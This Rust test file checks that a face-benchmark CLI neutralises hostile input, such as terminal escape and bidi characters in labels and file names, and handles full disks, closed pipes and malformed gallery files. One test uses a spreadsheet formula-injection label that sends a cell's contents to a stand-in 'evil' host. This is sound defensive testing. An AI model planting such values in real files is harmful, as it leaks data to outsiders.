//! Words and files from outside: what a terminal obeys is shown and not done, broken files are named, and an answer that
//! cannot be written is an error and no panic.

use std::{
    ffi::OsStr,
    fs::OpenOptions,
    io::Read,
    os::unix::{ffi::OsStrExt, fs::PermissionsExt},
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use facebench::text;
use serde_json::{Value, json};

use crate::{
    common::{Answer, facebench, network, photos, run, shared, short_run},
    fixture,
};

const POISON: &str = "\u{1b}[31m\u{7}\u{9b}2J\u{202e}\r\nFORGED";

fn written(folder: &Path, name: &str, value: &Value) -> PathBuf {
    let path = folder.join(name);
    std::fs::write(&path, value.to_string()).unwrap();
    path
}

/// Asserts that neither output holds what a terminal obeys, or a line from outside.
fn sound(answer: &Answer) {
    let all = answer.stdout() + &answer.stderr();
    let hidden = all
        .chars()
        .find(|c| *c != '\n' && !text::is_visible(&c.to_string()));
    assert_eq!(hidden, None, "{all:?}");
    assert!(
        !all.lines().any(|line| line.trim_start().starts_with("FORGED")),
        "{all}"
    );
}

/// A record in which names and labels hold escapes, or the given one of ../shared.
fn poisoned() -> Value {
    let mut record = fixture::full();
    record["workload"]["dataset"]["name"] = json!(format!("photos{POISON}"));
    record["host"]["cpu"]["model"] = json!(format!("cpu{POISON}"));
    let label = record["arms"][0]["label"].as_str().unwrap().to_owned();
    rename(&mut record, &label);
    record
}

/// Poisons every string that is `label`.
fn rename(value: &mut Value, label: &str) {
    match value {
        Value::String(text) if text == label => text.push_str(POISON),
        Value::Array(values) => values.iter_mut().for_each(|value| rename(value, label)),
        Value::Object(map) => map.values_mut().for_each(|value| rename(value, label)),
        _ => {}
    }
}

#[test]
fn escapes_in_a_record_reach_neither_terminal_nor_file() {
    let folder = tempfile::tempdir().unwrap();
    let mut records = vec![written(folder.path(), "r.json", &poisoned())];
    records.extend(shared("cases/hostile/label-esc.json"));
    for record in &records {
        let answer = run(facebench().arg("report").arg(record));
        assert_eq!(answer.code(), 0, "{}", answer.all());
        sound(&answer);
        assert!(answer.stdout().contains("\\u001b[31m"), "{}", answer.stdout());
        for ending in ["html", "md", "csv", "svg", "txt"] {
            let path = folder.path().join(format!("r.{ending}"));
            let answer = run(facebench().arg("report").arg(record).arg("-o").arg(&path));
            assert_eq!(answer.code(), 0, "{}", answer.all());
            let text = std::fs::read_to_string(&path).unwrap();
            let hidden = text
                .chars()
                .find(|c| *c != '\n' && !text::is_visible(&c.to_string()));
            assert_eq!(hidden, None, "{ending}");
            assert!(text.contains("\\u001b") || text.contains("\\\\u001b"), "{ending}");
        }
        if cfg!(feature = "png") {
            let path = folder.path().join("r.png");
            let answer = run(facebench().arg("report").arg(record).arg("-o").arg(&path));
            assert_eq!(answer.code(), 0, "{}", answer.all());
        }
        sound(&run(facebench().arg("audit").arg(record)));
        let compared = run(facebench()
            .arg("compare")
            .args([record, record])
            .args(["--fail-on-regression", "5%"]));
        assert_ne!(compared.code(), 101, "{}", compared.all());
        sound(&compared);
        sound(&run(facebench().arg("size").arg(record).args(["--rate", "100"])));
        let all = folder.path().join("all.json");
        let merged = run(facebench()
            .arg("merge")
            .args([record, record])
            .arg("-o")
            .arg(&all));
        sound(&merged);
    }
}

#[test]
fn cells_of_a_spreadsheet_begin_no_formula() {
    let folder = tempfile::tempdir().unwrap();
    let mut record = fixture::plain();
    record["arms"][0]["label"] = json!("=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
    let mut records = vec![written(folder.path(), "r.json", &record)];
    records.extend(shared("cases/hostile/csv-formula.json"));
    for record in &records {
        let path = folder.path().join("r.csv");
        let answer = run(facebench().arg("report").arg(record).arg("-o").arg(&path));
        assert_eq!(answer.code(), 0, "{}", answer.all());
        let mut reader = csv::Reader::from_path(&path).unwrap();
        let cells: Vec<String> = reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(cells.iter().any(|cell| cell.starts_with("'=HYPERLINK")));
        let formula = cells
            .iter()
            .find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err());
        assert_eq!(formula, None);
    }
}

#[test]
fn labels_and_names_with_control_characters_are_usage_errors() {
    let folder = tempfile::tempdir().unwrap();
    let record = folder.path().join("r.json");
    for arguments in [
        ["-b", "null,label=a\u{1b}[31mb"],
        ["-b", "null,label=a\nb"],
        ["-b", "null,label=a\u{202e}b"],
        ["-b", "\u{1b}]0;x\u{7}"],
        ["--name", "a\u{1b}b"],
        ["--price-per-hour", "a\u{1b}b"],
    ] {
        let answer = run(facebench()
            .args(["run", "--dry-run"])
            .args(arguments)
            .arg("-o")
            .arg(&record));
        assert_eq!(answer.code(), 2, "{arguments:?}: {}", answer.all());
        sound(&answer);
    }
    let odd = run(facebench().arg(OsStr::from_bytes(b"a\xff\x1b")));
    assert_eq!(odd.code(), 2, "{}", odd.all());
    sound(&odd);
    let missing = run(facebench()
        .arg("report")
        .arg(OsStr::from_bytes(b"a\xff\x1b\nFORGED.json")));
    assert_eq!(missing.code(), 1, "{}", missing.all());
    sound(&missing);
    assert!(
        missing.stderr().contains("a\\xff\\u001b\\nFORGED.json"),
        "{}",
        missing.stderr()
    );
}

#[test]
fn names_of_photos_are_shown_and_stay_what_they_are() {
    let folder = photos();
    let name = "a\u{1b}[2J\u{9b}\u{202e}b\nFORGED.png";
    std::fs::rename(folder.path().join("one.png"), folder.path().join(name)).unwrap();
    std::fs::write(folder.path().join(format!("broken{name}.png")), "no photo").unwrap();
    std::fs::write(
        folder.path().join(OsStr::from_bytes(b"c\xff\x1b.png")),
        "no photo",
    )
    .unwrap();
    let networks = [network("spots.onnx"), network("tiles.onnx")];
    let drawn = folder.path().join("drawn");
    let answer = run(facebench()
        .arg("faces")
        .arg(folder.path())
        .arg("--json")
        .arg("--draw")
        .arg(&drawn)
        .arg("--detector")
        .arg(&networks[0])
        .arg("--recognizer")
        .arg(&networks[1]));
    assert_eq!(answer.code(), 0, "{}", answer.all());
    sound(&answer);
    // JSON says the very name.
    let lines = answer.stdout();
    let mut found = lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap());
    assert!(found.any(|line| line["photo"] == name), "{lines}");
    assert!(drawn.join(format!("{name}.png")).is_file());
    assert!(
        answer.stderr().contains("c\\xff\\u001b.png"),
        "{}",
        answer.stderr()
    );
    let record = folder.path().join("r.json");
    let studied = run(&mut short_run(folder.path(), &record));
    sound(&studied);
    assert!(record.is_file(), "{}", studied.all());
    sound(&run(facebench().arg("report").arg(&record)));
}

/// Every command that answers at once, with what it needs.
fn answering(folder: &Path) -> Vec<Vec<String>> {
    let record = written(folder, "r.json", &fixture::full());
    let mut other = fixture::full();
    other["id"] = "another study".into();
    let other = written(folder, "other.json", &other);
    let (record, other) = (record.to_str().unwrap(), other.to_str().unwrap());
    let command = |words: &str| words.split(' ').map(str::to_owned).collect::<Vec<_>>();
    vec![
        command("completions bash"),
        command("completions zsh"),
        command("checks"),
        command("checks --markdown"),
        command("models list"),
        command("models list --json"),
        command("devices"),
        command("devices --json"),
        command("--help"),
        command("run --help"),
        command("--version"),
        command(&format!("report {record}")),
        command(&format!("report {record} {record}")),
        command(&format!("audit {record}")),
        command(&format!("compare {record} {other}")),
        command(&format!("compare {record} {other} --json")),
        command(&format!("size {record} --rate 10")),
        command(&format!("size {record} --rate 10 --json")),
    ]
}

#[test]
fn a_reader_that_goes_away_is_no_error_and_a_full_disk_is_one() {
    let folder = tempfile::tempdir().unwrap();
    for arguments in answering(folder.path()) {
        let full = OpenOptions::new().write(true).open("/dev/full").unwrap();
        let answer = run(facebench().args(&arguments).stdout(Stdio::from(full)));
        let said = answer.stderr();
        assert_eq!(answer.code(), 1, "{arguments:?}: {said}");
        assert!(said.contains("No space left on device"), "{arguments:?}: {said}");
        let mut child = facebench()
            .args(&arguments)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The reading end is closed before anything is written, as by `| head -0`.
        drop(child.stdout.take());
        let mut said = String::new();
        child.stderr.take().unwrap().read_to_string(&mut said).unwrap();
        let status = child.wait().unwrap();
        assert!(!said.contains("panicked"), "{arguments:?}: {said}");
        assert!(
            status.code().is_some_and(|code| code < 100),
            "{arguments:?}: {status}"
        );
    }
    // What cannot be said on standard error is no panic either.
    for (arguments, code) in [(["report", "--no-such"], 2), (["report", "none.json"], 1)] {
        let mut child = facebench()
            .args(arguments)
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stderr.take());
        assert_eq!(child.wait().unwrap().code(), Some(code), "{arguments:?}");
    }
}

#[test]
fn a_file_that_cannot_be_written_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let record = written(folder.path(), "r.json", &fixture::full());
    for ending in ["html", "md", "csv", "svg", "txt"] {
        // A link is written through, so this is a full disk of that name.
        let path = folder.path().join(format!("full.{ending}"));
        std::os::unix::fs::symlink("/dev/full", &path).unwrap();
        let answer = run(facebench().arg("report").arg(&record).arg("-o").arg(&path));
        assert_eq!(answer.code(), 1, "{}", answer.all());
        let says = format!("full.{ending}: cannot be written: No space left on device");
        assert!(answer.stderr().contains(&says), "{}", answer.stderr());
    }
}

#[test]
fn written_files_have_the_mode_that_the_umask_allows() {
    let folder = tempfile::tempdir().unwrap();
    let record = written(folder.path(), "r.json", &fixture::full());
    for (mask, mode) in [("000", 0o666), ("022", 0o644), ("077", 0o600)] {
        let path = folder.path().join(format!("{mask}.html"));
        let mut shell = Command::new("sh");
        shell.args(["-c", "umask $1; exec \"$2\" report \"$3\" -o \"$4\"", "sh", mask]);
        shell.arg(env!("CARGO_BIN_EXE_facebench")).arg(&record).arg(&path);
        let answer = run(&mut shell);
        assert_eq!(answer.code(), 0, "{}", answer.all());
        let found = path.metadata().unwrap().permissions().mode();
        assert_eq!(found & 0o777, mode, "umask {mask}");
    }
}

#[test]
fn a_page_takes_so_many_records_and_says_so() {
    let folder = tempfile::tempdir().unwrap();
    let record = written(folder.path(), "r.json", &fixture::plain());
    let page = folder.path().join("all.html");
    let answer = run(facebench()
        .arg("report")
        .args(std::iter::repeat_n(&record, 1000))
        .arg("-o")
        .arg(&page));
    assert_eq!(answer.code(), 2, "{}", answer.all());
    assert!(
        answer.stderr().contains("1000 were given") && answer.stderr().contains("head -n"),
        "{}",
        answer.stderr()
    );
    assert!(!page.exists());
}

fn faces(folder: &Path, gallery: &Path) -> Answer {
    run(facebench()
        .arg("faces")
        .arg(folder)
        .arg("--gallery")
        .arg(gallery)
        .arg("--detector")
        .arg(network("spots.onnx"))
        .arg("--recognizer")
        .arg(network("tiles.onnx")))
}

#[test]
fn a_gallery_never_falls_silent() {
    let gallery = photos();
    let csv = gallery.path().join("identities.csv");
    for (text, code, says) in [
        ("one.png,ann\ntwo.png,bob\n", 1, "is not the header"),
        ("photo,person\nann,one.png\n", 1, "photo and person are exchanged"),
        ("photo,person\nthree.png,ann\n", 1, "there is no photo three.png"),
        ("photo,person\nnone.png,cat\n", 1, "no face is found"),
        (
            "photo,person\none.png,ann\nnone.png,cat\n",
            0,
            "no face of cat is known",
        ),
        (
            "photo,person\none.png,ann\n",
            0,
            "skipped two.png: nothing says whose it is",
        ),
        (
            "photo,person\none.png,ann\nbad.png,eve\n",
            0,
            "gallery: skipped bad.png",
        ),
        ("person,photo\nann,one.png\n", 0, "skipped two.png"),
    ] {
        std::fs::write(gallery.path().join("bad.png"), "no photo").unwrap();
        std::fs::write(&csv, text).unwrap();
        let answer = faces(gallery.path(), gallery.path());
        assert_eq!(answer.code(), code, "{text}: {}", answer.all());
        assert!(answer.stderr().contains(says), "{text}: {}", answer.stderr());
        if code == 0 {
            assert!(
                answer.stdout().contains("\"name\":\"ann\""),
                "{text}: {}",
                answer.all()
            );
        }
    }
}

#[test]
fn ground_truth_that_cannot_be_read_is_an_error() {
    let folder = tempfile::tempdir().unwrap();
    let rendered = run(facebench()
        .args(["datasets", "render", "--seed", "7", "--count", "2"])
        .arg(folder.path().join("photos")));
    assert_eq!(rendered.code(), 0, "{}", rendered.all());
    let photos = folder.path().join("photos");
    let manifest = photos.join("manifest.json");
    let sound = std::fs::read_to_string(&manifest).unwrap();
    let record = folder.path().join("r.json");
    for (from, to, says) in [
        ("\"width\":", "\"breadth\":", "photos[0].breadth: unknown field"),
        ("\"photos\"", "\"photo\"", "unknown field `photo`"),
        ("photo-00001.jpg", "photo-00009.jpg", "is not in the folder"),
        (
            "photo-00001.jpg",
            "../photo-00001.jpg",
            "must lie in the manifest's folder",
        ),
        (&sound[sound.len() / 2..], "", "at line"),
    ] {
        std::fs::write(&manifest, sound.replace(from, to)).unwrap();
        let answer = run(&mut short_run(&photos, &record));
        assert_eq!(answer.code(), 1, "{from}: {}", answer.all());
        assert!(
            answer.stderr().contains("manifest.json: ") && answer.stderr().contains(says),
            "{says}: {}",
            answer.stderr()
        );
        assert!(!record.exists());
    }
    std::fs::write(&manifest, &sound).unwrap();
    std::fs::write(photos.join("identities.csv"), "photo-00000.jpg,ann\n").unwrap();
    let answer = run(&mut short_run(&photos, &record));
    assert_eq!(answer.code(), 1, "{}", answer.all());
    assert!(
        answer.stderr().contains("identities.csv: line 1"),
        "{}",
        answer.stderr()
    );
}
